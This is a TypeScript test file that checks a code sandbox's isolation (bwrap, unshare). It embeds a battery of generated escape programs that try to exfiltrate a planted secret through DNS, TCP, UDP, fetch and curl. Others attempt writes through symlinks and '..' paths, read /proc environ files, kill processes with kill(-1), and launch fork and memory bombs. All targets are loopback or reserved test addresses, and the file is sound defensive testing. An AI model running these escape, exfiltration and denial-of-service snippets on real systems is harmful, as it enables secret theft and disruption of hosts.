/**
 * Escape attempts: small generated programs that try to reach the network, write or read outside
 * their folder, or take the machine down, each run in every isolation backend that works here
 * (in CI both bwrap and unshare must). The preload's traps are OFF (traps: false): what stops
 * them is the isolation and Node's permission model alone. Each attempt must fail, visibly from
 * outside (real listeners on loopback that count connections and datagrams, files that must stay
 * unchanged, a secret that must not be printed), and be categorised as a sandbox violation or a
 * clean error. Programs print ESCAPED only when the attempt worked. No address other than loopback
 * and TEST-NET-1 (192.0.2.0/24, RFC 5737: reserved for documentation, never routed) is used.
 */
import { after, before, test } from "node:test";
import * as assert from "node:assert/strict";
import * as dgram from "node:dgram";
import * as fs from "node:fs";
import * as net from "node:net";
import * as path from "node:path";
import { spawn } from "node:child_process";
import { categoriseByRules, ErrorCategory } from "../../lib/analysis/errors";
import { IsolationName } from "../../lib/analysis/isolation/backend";
import { availableIsolation, ISOLATING_BACKENDS, probeOnce } from "../../lib/analysis/isolation/choose";
import { runInSandbox, SandboxLimits, SandboxResult } from "../../lib/analysis/sandbox";
import { requireReference } from "../support/shared";
import { tempDir } from "./fixture";

const root = tempDir("escape");
const data = path.join(root, "data");
const outside = tempDir("escape-outside"); // another temp folder: never visible to the programs
fs.mkdirSync(data);
fs.writeFileSync(path.join(data, "events.txt"), "original");
const SECRET = `sk-hepllm-escape-${process.pid}-${Date.now()}`;
const secretFile = path.join(outside, "endpoints.json");
const victim = path.join(outside, "victim.txt");
process.env.HEPLLM_ESCAPE_TEST_KEY = SECRET; // in hepllm's environment, as an API key would be
const TOKEN = `HOST-REPLY-${process.pid}`; // what the loopback listeners answer: in stdout = escaped
const sentinel = spawn("sleep", ["600"], { stdio: "ignore" }); // a neighbour that must survive every attempt
const sentinelAlive = () => sentinel.exitCode === null && sentinel.signalCode === null;

// ---- listeners on the host's loopback, outside every sandbox ----
let tcpPort = 0;
let udpPort = 0;
let tcpHits = 0;
let udpHits = 0;
const tcp = net.createServer((s) => {
  tcpHits++;
  s.on("error", () => {});
  s.end(`${TOKEN}\n`);
});
const udp = dgram.createSocket("udp4");
udp.on("message", (_m, from) => {
  udpHits++;
  udp.send(TOKEN, from.port, from.address);
});

before(async () => {
  await new Promise<void>((ok) => tcp.listen(0, "127.0.0.1", ok));
  tcpPort = (tcp.address() as net.AddressInfo).port;
  await new Promise<void>((ok) => udp.bind(0, "127.0.0.1", ok));
  udpPort = udp.address().port;
});
after(() => {
  sentinel.kill("SIGKILL");
  tcp.close();
  udp.close();
});

// ---- the attempts ----
interface Ctx {
  tcpPort: number;
  udpPort: number;
  dir: string;
}
interface Attempt {
  name: string;
  code: (c: Ctx) => string;
  /** Categories that count as "stopped": a sandbox violation or a clean error. */
  expect: ErrorCategory[];
  limits?: Partial<SandboxLimits>;
  /** Prepares the sandbox folder before the run (e.g. plants a symlink). */
  plant?: (dir: string) => void;
  /** Something outside the sandbox to probe while the program runs (e.g. the inspector port). */
  during?: (c: Ctx) => Promise<string | undefined>;
}

const NET: ErrorCategory[] = ["sandbox_network", "runtime_exception"];
const DENIED: ErrorCategory[] = ["sandbox_write", "runtime_exception"];
/** A program ending: fail with the error (clean error), or print ESCAPED with what came back. */
const fail = `(e) => { console.error(e && e.stack || e); process.exit(2); }`;
/** Waits for a reply from a loopback listener; no reply within 1.5 s is a clean failure. */
const waitReply = `setTimeout(() => { throw new Error("no reply within 1.5 s"); }, 1500).unref();`;
const dnsServers = (c: Ctx) => JSON.stringify([`127.0.0.1:${c.udpPort}`]);
const inspectorPort = 9229 + (process.pid % 500);

const attempts: Attempt[] = [
  {
    name: "dns.lookup (getaddrinfo, system resolver)",
    code: () => `require("dns").lookup("exfil-${SECRET}.invalid", (e, a) => e ? (${fail})(e) : console.log("ESCAPED " + a));`,
    expect: ["sandbox_network"],
  },
  {
    name: "dns.resolveTxt and every dns.resolve* to a loopback DNS server",
    code: (c) => `const dns = require("dns"); dns.setServers(${dnsServers(c)});
      const fns = Object.keys(dns).filter((k) => /^resolve|^reverse/.test(k) && typeof dns[k] === "function");
      let left = fns.length;
      for (const f of fns) dns[f](f === "reverse" ? "192.0.2.55" : "exfil-${SECRET}.invalid", (e, r) => {
        if (!e) console.log("ESCAPED " + f + " " + JSON.stringify(r)); else console.error(f + ": " + e.code);
        if (--left === 0) process.exit(2);
      });`,
    expect: NET,
  },
  {
    name: "new dns.Resolver() with its own server",
    code: (c) => `const r = new (require("dns").Resolver)({ timeout: 500, tries: 1 }); r.setServers(${dnsServers(c)});
      r.resolveTxt("exfil-${SECRET}.invalid", (e, x) => e ? (${fail})(e) : console.log("ESCAPED " + x));`,
    expect: NET,
  },
  {
    name: "dns.promises (module and Resolver)",
    code: (c) => `const p = require("dns").promises; p.setServers(${dnsServers(c)}); const r = new p.Resolver({ timeout: 500, tries: 1 }); r.setServers(${dnsServers(c)});
      Promise.allSettled([p.resolveTxt("exfil-${SECRET}.invalid"), r.resolve4("exfil.invalid"), p.lookup("exfil.invalid")])
        .then((s) => { for (const x of s) if (x.status === "fulfilled") console.log("ESCAPED " + JSON.stringify(x.value)); console.error(s.map((x) => x.reason && x.reason.code).join(" ")); process.exit(2); });`,
    expect: NET,
  },
  {
    name: "net.connect to a live listener on 127.0.0.1",
    code: (c) => `const s = require("net").connect(${c.tcpPort}, "127.0.0.1"); s.on("data", (d) => console.log("ESCAPED " + d)); s.on("error", ${fail}); ${waitReply}`,
    expect: NET,
  },
  {
    name: "net.connect to an outside address (192.0.2.1, TEST-NET-1)",
    code: () => `const s = require("net").connect(443, "192.0.2.1", () => console.log("ESCAPED connected")); s.on("error", ${fail}); setTimeout(() => { throw new Error("connect timed out"); }, 3000).unref();`,
    expect: NET,
  },
  {
    name: "tls.connect to the loopback listener",
    code: (c) => `const s = require("tls").connect({ port: ${c.tcpPort}, host: "127.0.0.1", rejectUnauthorized: false }, () => console.log("ESCAPED tls")); s.on("error", ${fail}); ${waitReply}`,
    expect: NET,
  },
  {
    name: "http2.connect to the loopback listener",
    code: (c) => `const s = require("http2").connect("http://127.0.0.1:${c.tcpPort}", () => console.log("ESCAPED http2")); s.on("error", ${fail}); ${waitReply}`,
    expect: NET,
  },
  {
    name: "dgram (UDP) send to a loopback listener",
    code: (c) => `const u = require("dgram").createSocket("udp4"); u.on("message", (m) => { console.log("ESCAPED " + m); process.exit(0); }); u.on("error", ${fail});
      u.send("exfil ${SECRET}", ${c.udpPort}, "127.0.0.1", (e) => { if (e) (${fail})(e); }); ${waitReply}`,
    expect: NET,
  },
  {
    name: "fetch to the loopback listener",
    code: (c) => `fetch("http://127.0.0.1:${c.tcpPort}/?k=${SECRET}").then(async (r) => console.log("ESCAPED " + (await r.text())), (e) => (${fail})(e.cause || e));`,
    expect: NET,
  },
  {
    name: "process.binding('tcp_wrap') raw socket",
    code: (c) => `const { TCP, TCPConnectWrap, constants } = process.binding("tcp_wrap"); const h = new TCP(constants.SOCKET); const req = new TCPConnectWrap();
      req.oncomplete = (st) => console.log(st === 0 ? "ESCAPED raw" : "connect status " + st); const err = h.connect(req, "127.0.0.1", ${c.tcpPort});
      if (err) throw new Error("connect " + err); ${waitReply}`,
    expect: DENIED,
  },
  {
    name: "internalBinding tricks (_linkedBinding, internal/test/binding, spawn_sync)",
    code: () => `const tries = [() => process._linkedBinding("tcp_wrap"), () => require("internal/test/binding"), () => process.binding("spawn_sync"), () => process.binding("fs"), () => globalThis.internalBinding("tcp_wrap")];
      let got = 0; for (const t of tries) { try { t(); got++; console.log("ESCAPED " + t); } catch (e) { console.error(String(e.message).split("\\n")[0]); } }
      if (!got) throw new Error("every binding refused");`,
    expect: DENIED,
  },
  {
    name: "child_process: curl to the listener, sh writing outside",
    code: (c) => `const cp = require("child_process");
      try { console.log("ESCAPED " + cp.execFileSync("curl", ["-s", "http://127.0.0.1:${c.tcpPort}/"])); } catch (e) { console.error("curl: " + e.code); }
      cp.execSync("sh -c 'echo pwned > ${victim}'"); console.log("ESCAPED sh");`,
    expect: DENIED,
  },
  {
    name: "worker_threads: a worker that connects",
    code: (c) => `const { Worker } = require("worker_threads"); const w = new Worker('require("net").connect(${c.tcpPort}, "127.0.0.1").on("data", (d) => console.log("ESCAPED " + d))', { eval: true }); w.on("error", ${fail});`,
    expect: DENIED,
  },
  {
    name: "inspector.open on a port the host then connects to",
    code: () => `require("inspector").open(${inspectorPort}, "0.0.0.0"); console.log("inspector at " + require("inspector").url()); setTimeout(() => {}, 2500);`,
    expect: DENIED,
    during: async () => {
      // the host must not reach a debugger inside the sandbox (code execution in hepllm's network)
      for (let i = 0; i < 10; i++) {
        const ok = await new Promise<boolean>((res) => net.connect(inspectorPort, "127.0.0.1", function (this: net.Socket) { this.destroy(); res(true); }).on("error", () => res(false)));
        if (ok) return `the host reached the sandbox's inspector on port ${inspectorPort}`;
        await new Promise((r) => setTimeout(r, 150));
      }
      return undefined;
    },
  },
  {
    name: "symlink made by the program, pointing outside, written through",
    code: () => `const fs = require("fs"); fs.symlinkSync(${JSON.stringify(victim)}, "link"); fs.writeFileSync("link", "pwned"); console.log("ESCAPED symlink");`,
    expect: DENIED,
  },
  {
    name: "symlink planted in the working folder before the run, written through",
    plant: (dir) => {
      fs.mkdirSync(path.join(dir, "work"), { recursive: true });
      fs.symlinkSync(victim, path.join(dir, "work", "planted"));
    },
    code: () => `require("fs").writeFileSync("planted", "pwned"); console.log("ESCAPED planted");`,
    expect: ["runtime_exception"], // refused before it runs: the folder must be new
  },
  {
    name: "writes via .. paths out of the working folder",
    code: (c) => `const fs = require("fs"); const up = path => "../".repeat(${c.dir.split("/").length + 2}) + path;
      for (const p of [up(${JSON.stringify(victim.slice(1))}), process.argv[3] + "/../../../${path.basename(outside)}/new.txt", "/tmp/escape-${process.pid}.txt"]) {
        try { fs.writeFileSync(p, "pwned"); console.log("ESCAPED " + p); } catch (e) { console.error(p + ": " + e.code); }
      } process.exit(2);`,
    expect: ["runtime_exception"],
  },
  {
    name: "writes into the data folder (open r+ on a staged input, rename, hard link)",
    code: () => `const fs = require("fs"); const f = process.argv[2] + "/events.txt";
      const tries = [() => fs.writeSync(fs.openSync(f, "r+"), "pwned"), () => fs.renameSync(f, "moved"), () => { fs.linkSync(f, "hl"); fs.writeFileSync("hl", "pwned"); }, () => fs.chmodSync(f, 0o777)];
      for (const t of tries) { try { t(); console.log("ESCAPED " + t); } catch (e) { console.error(e.code); } } process.exit(2);`,
    expect: ["runtime_exception"],
  },
  {
    name: "reads outside the data folder (a secret, /proc tricks, hepllm's environment)",
    code: () => `const fs = require("fs"); let leaked = JSON.stringify(process.env).includes(${JSON.stringify(SECRET)}) ? "env " : "";
      for (const p of [${JSON.stringify(secretFile)}, "/proc/self/root" + ${JSON.stringify(secretFile)}, "/proc/" + process.ppid + "/environ", "/proc/1/environ", process.argv[2] + "/../../../${path.basename(outside)}/endpoints.json"]) {
        try { const t = fs.readFileSync(p, "utf8"); if (t.includes(${JSON.stringify(SECRET)})) leaked += p + " "; } catch (e) { console.error(p + ": " + e.code); }
      } if (leaked) console.log("ESCAPED " + leaked); process.exit(2);`,
    expect: ["runtime_exception"],
  },
  {
    name: "native addon (process.dlopen of a system library)",
    code: () => `const m = { exports: {} }; process.dlopen(m, "/usr/lib/x86_64-linux-gnu/libc.so.6"); console.log("ESCAPED dlopen");`,
    expect: DENIED,
  },
  {
    name: "signals: kill hepllm's process, a neighbour, and kill(-1)",
    code: () => `const tries = [[${process.pid}, "hepllm"], [${sentinel.pid}, "neighbour"]];
      for (const [pid, who] of tries) { try { process.kill(pid, "SIGKILL"); console.log("ESCAPED killed " + who); } catch (e) { console.error(who + ": " + e.code); } }
      // kill(-1) reaches every process the caller may signal: only inside a PID namespace (own pid small) is it harmless to try
      if (process.pid > 10) console.log("ESCAPED not in a PID namespace (pid " + process.pid + ")"); else { process.kill(-1, "SIGKILL"); }
      setTimeout(() => process.exit(2), 200);`,
    expect: ["runtime_exception"],
  },
  {
    name: "fork bomb (child processes, then workers)",
    code: () => `const cp = require("child_process"); const kids = [];
      try { for (let i = 0; i < 10000; i++) kids.push(cp.spawn(process.execPath, ["-e", "setInterval(()=>{},1000)"], { detached: true })); console.log("ESCAPED forked " + kids.length); } catch (e) { console.error("spawn: " + e.code); }
      const { Worker } = require("worker_threads"); for (let i = 0; i < 1000; i++) new Worker("for(;;){}", { eval: true }); console.log("ESCAPED workers");`,
    expect: DENIED,
    limits: { timeoutMs: 4000 },
  },
  {
    name: "memory bomb (typed arrays and the JS heap)",
    code: () => `const a = []; for (;;) { const x = new Float64Array(8e6); x.fill(1); a.push(x); }`,
    expect: ["memory_limit"],
    limits: { memoryMb: 256 },
  },
];

// ---- run every attempt in every isolation backend ----
const modes = availableIsolation().map((b) => b.name);
const table = new Map<string, Map<IsolationName, string>>();
let boxes = 0;

// A backend missing here skips its attempts with the reason; in CI (which installs both) it fails.
for (const b of ISOLATING_BACKENDS) {
  const why = probeOnce(b);
  if (why !== null) {
    const reason = requireReference(`isolation backend ${b.name} does not work here: ${why} (apt-get install bubblewrap; sysctl kernel.unprivileged_userns_clone=1)`);
    test(`[${b.name}] escape attempts`, { skip: reason || "unavailable" }, () => {});
  }
}

for (const mode of modes) {
  for (const a of attempts) {
    test(`[${mode}] ${a.name}`, async () => {
      const dir = path.join(root, `box${boxes++}`);
      a.plant?.(dir);
      const ctx: Ctx = { tcpPort, udpPort, dir };
      fs.writeFileSync(victim, "untouched");
      fs.writeFileSync(secretFile, JSON.stringify({ apiKey: SECRET }));
      const before = { tcp: tcpHits, udp: udpHits };
      const limits: Partial<SandboxLimits> = { isolation: mode as "bwrap" | "unshare", traps: false, timeoutMs: 8000, memoryMb: 512, ...a.limits };
      let r: SandboxResult | undefined;
      let refused: string | undefined;
      const probe = a.during?.(ctx);
      try {
        r = await runInSandbox({ code: a.code(ctx), language: "javascript", dir, inputDir: data, limits });
      } catch (err) {
        refused = (err as Error).message;
      }
      const seen = await probe;
      await new Promise((ok) => setTimeout(ok, 100)); // late packets
      const category = r ? categoriseByRules({ sandbox: r })?.category ?? "success" : "refused";
      const outcome = r ? `${category} (${r.timedOut ? "time limit" : `exit ${r.exitCode ?? r.signal}`})` : "refused before running";
      if (!table.has(a.name)) table.set(a.name, new Map());
      table.get(a.name)!.set(mode, outcome);

      const why = `${mode} / ${a.name}: ${outcome}\nstdout: ${r?.stdout ?? ""}\nstderr: ${(r?.stderr ?? refused ?? "").slice(-1500)}`;
      assert.equal(seen, undefined, seen);
      assert.ok(sentinelAlive(), `a neighbouring process was killed; ${why}`);
      assert.equal(tcpHits, before.tcp, `the loopback TCP listener got a connection; ${why}`);
      assert.equal(udpHits, before.udp, `the loopback UDP listener got a datagram; ${why}`);
      assert.equal(fs.readFileSync(victim, "utf8"), "untouched", `a file outside was written; ${why}`);
      assert.deepEqual(fs.readdirSync(outside).sort(), ["endpoints.json", "victim.txt"], `a file appeared outside; ${why}`);
      assert.equal(fs.readFileSync(path.join(data, "events.txt"), "utf8"), "original", `the data changed; ${why}`);
      if (refused !== undefined) {
        assert.ok(a.expect.includes("runtime_exception"), why);
        assert.match(refused, /must be a new or empty folder/);
        return;
      }
      assert.doesNotMatch(r!.stdout, /ESCAPED/, why);
      assert.ok(!r!.stdout.includes(TOKEN) && !r!.stderr.includes(TOKEN), `a listener's reply reached the program; ${why}`);
      assert.notEqual(r!.exitCode, 0, why);
      assert.ok((a.expect as string[]).includes(category), `expected ${a.expect.join(" or ")}; ${why}`);
      assert.equal(r!.isolation, mode);
    });
  }
}

// Below the permission model (which already refuses child processes): the backend alone must end
// every process at the time limit, also those that left the process group (setsid) and daemons.
for (const b of ISOLATING_BACKENDS.filter((x) => modes.includes(x.name))) {
  test(`[${b.name}] a process tree that left the process group dies with the sandbox at the time limit`, async () => {
    const marker = `59.${process.pid}${boxes++}`; // a unique sleep length to find the processes by
    const work = fs.realpathSync(tempDir("escape-tree"));
    const script = `for i in 1 2 3 4 5 6 7 8 9 10; do setsid sleep ${marker} & done; (sleep ${marker} &) ; sleep ${marker}`;
    const argv = b.wrap(["/bin/sh", "-c", script], { readOnly: [], writable: work });
    const child = spawn(argv[0], argv.slice(1), { cwd: work, detached: true, stdio: "ignore" });
    const alive = () => fs.readdirSync("/proc").filter((p) => /^\d+$/.test(p)).filter((p) => {
      try {
        return fs.readFileSync(`/proc/${p}/cmdline`, "utf8").includes(marker);
      } catch {
        return false;
      }
    }).length;
    const deadline = Date.now() + 5000;
    while (alive() < 12 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
    assert.ok(alive() >= 12, `the tree did not start (${alive()} processes)`);
    const closed = new Promise((r) => child.on("close", r));
    process.kill(-child.pid!, "SIGKILL"); // what runInSandbox does at the time limit
    await closed;
    const gone = Date.now() + 3000;
    while (alive() > 0 && Date.now() < gone) await new Promise((r) => setTimeout(r, 100));
    assert.equal(alive(), 0, "processes outlived the sandbox");
  });
}

test("control: without isolation (the opt-out, traps off) the same loopback attempts do get through, so the battery can fail", async () => {
  const before = { tcp: tcpHits, udp: udpHits };
  const ctx: Ctx = { tcpPort, udpPort, dir: "" };
  const byName = (n: string) => attempts.find((x) => x.name.startsWith(n))!;
  const stderr = process.stderr.write;
  process.stderr.write = (() => true) as typeof process.stderr.write; // the opt-out's warning
  try {
    for (const n of ["net.connect to a live listener", "dgram (UDP) send"]) {
      const r = await runInSandbox({ code: byName(n).code(ctx), language: "javascript", dir: path.join(root, `box${boxes++}`), inputDir: data, limits: { isolation: "none-i-accept-the-risk", traps: false, timeoutMs: 8000 } });
      assert.match(r.stdout, new RegExp(`ESCAPED ${TOKEN}`), r.stderr);
    }
  } finally {
    process.stderr.write = stderr;
  }
  assert.equal(tcpHits, before.tcp + 1);
  assert.equal(udpHits, before.udp + 1);
});

test("escape attempts: attempt × isolation", (t) => {
  const lines = [`| attempt | ${modes.join(" | ")} |`, `|---|${modes.map(() => "---").join("|")}|`];
  for (const [name, byMode] of table) lines.push(`| ${name} | ${modes.map((m) => byMode.get(m) ?? "not run").join(" | ")} |`);
  for (const l of lines) t.diagnostic(l);
  if (process.env.HEPLLM_ESCAPE_TABLE) fs.writeFileSync(process.env.HEPLLM_ESCAPE_TABLE, lines.join("\n") + "\n");
});
